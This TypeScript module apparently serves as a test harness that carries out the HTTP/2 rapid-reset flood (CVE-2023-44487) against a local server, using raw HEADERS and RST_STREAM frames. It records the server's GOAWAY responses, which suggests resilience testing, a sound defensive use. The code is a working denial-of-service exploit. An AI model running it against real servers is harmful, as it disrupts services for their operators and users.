import * as net from 'node:net';
import * as tls from 'node:tls';

/** Where and how {@link rapidReset} attacks. */
export interface RapidResetOptions {
  readonly port: number;
  /** TLS with ALPN h2 (the certificate is not checked: an attacker does not care); false for h2c. */
  readonly tls: boolean;
  readonly authority: string;
  readonly path: string;
  /** HEADERS + RST_STREAM pairs to send in all. */
  readonly pairs: number;
  /** Sessions kept open at once; one that the server closes is replaced until every pair is sent. */
  readonly sessions: number;
  /** The attacker's own address, so a per-address limit can tell it from a bystander. */
  readonly localAddress: string;
  /** Stops after this long whatever was sent. */
  readonly deadlineMs: number;
}

/** What the attack got done. */
export interface RapidResetResult {
  readonly sent: number;
  readonly sessionsOpened: number;
  /** Sessions the server ended with GOAWAY. */
  readonly goaways: number;
  /** GOAWAY error codes seen (11 is ENHANCE_YOUR_CALM). */
  readonly goawayCodes: readonly number[];
}

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const PAIRS_PER_WRITE = 50;
const CANCEL = 8;

/**
 * The 2023 rapid-reset attack (CVE-2023-44487) written as raw frames: each stream is a PUT HEADERS
 * followed at once, in the same write, by RST_STREAM(CANCEL). A real HTTP/2 client stack would not let
 * us send that shape, which is the point.
 *
 * @example
 * ```ts
 * const result = await rapidReset({ port, tls: true, authority: 'tunnel.test', path: '/tun', pairs: 20_000, sessions: 20, localAddress: '127.0.0.2', deadlineMs: 20_000 });
 * ```
 */
export function rapidReset(options: RapidResetOptions): Promise<RapidResetResult> {
  const deadline = Date.now() + options.deadlineMs;
  let sent = 0;
  let opened = 0;
  let goaways = 0;
  const codes: number[] = [];
  const block = headerBlock(options);

  const session = (): Promise<void> =>
    new Promise((resolve) => {
      opened++;
      const socket = connectTo(options);
      let stream = 1;
      let closed = false;
      let pending = Buffer.alloc(0);
      const finish = () => {
        if (closed) return;
        closed = true;
        socket.destroy();
        resolve();
      };
      socket.on('error', finish);
      socket.on('close', finish);
      socket.on('data', (chunk: Buffer) => {
        pending = Buffer.concat([pending, chunk]);
        while (pending.length >= 9) {
          const length = pending.readUIntBE(0, 3);
          if (pending.length < 9 + length) break;
          if (pending[3] === 7) {
            goaways++;
            codes.push(pending.readUInt32BE(9 + 4));
            finish();
          }
          pending = pending.subarray(9 + length);
        }
      });
      const flood = () => {
        while (!closed && sent < options.pairs && Date.now() < deadline && stream < 2 ** 31 - 1) {
          const frames: Buffer[] = [];
          for (let i = 0; i < PAIRS_PER_WRITE && sent < options.pairs; i++, sent++, stream += 2) {
            frames.push(frame(1, 0x4, stream, block), frame(3, 0, stream, u32(CANCEL)));
          }
          if (!socket.write(Buffer.concat(frames))) return void socket.once('drain', flood);
        }
        if (!closed) setTimeout(finish, 200);
      };
      socket.once(options.tls ? 'secureConnect' : 'connect', () => {
        socket.write(Buffer.concat([PREFACE, frame(4, 0, 0, Buffer.alloc(0))]));
        flood();
      });
    });

  const worker = async (): Promise<void> => {
    while (sent < options.pairs && Date.now() < deadline) await session();
  };
  return Promise.all(Array.from({ length: options.sessions }, worker)).then(() => ({
    sent,
    sessionsOpened: opened,
    goaways,
    goawayCodes: [...new Set(codes)],
  }));
}

function connectTo(options: RapidResetOptions): net.Socket {
  const base = { host: '127.0.0.1', port: options.port, localAddress: options.localAddress };
  return options.tls ? tls.connect({ ...base, servername: options.authority, ALPNProtocols: ['h2'], rejectUnauthorized: false }) : net.connect(base);
}

// HPACK without Huffman or indexing: :method PUT, :scheme, :path, :authority (static-table names 2, 7/6, 4, 1).
function headerBlock(options: RapidResetOptions): Buffer {
  const literal = (nameIndex: number, value: string) => Buffer.concat([Buffer.from([nameIndex, value.length]), Buffer.from(value, 'latin1')]);
  return Buffer.concat([literal(2, 'PUT'), Buffer.from([options.tls ? 0x87 : 0x86]), literal(4, options.path), literal(1, options.authority)]);
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(stream, 5);
  return Buffer.concat([header, payload]);
}

function u32(value: number): Buffer {
  const out = Buffer.alloc(4);
  out.writeUInt32BE(value);
  return out;
}
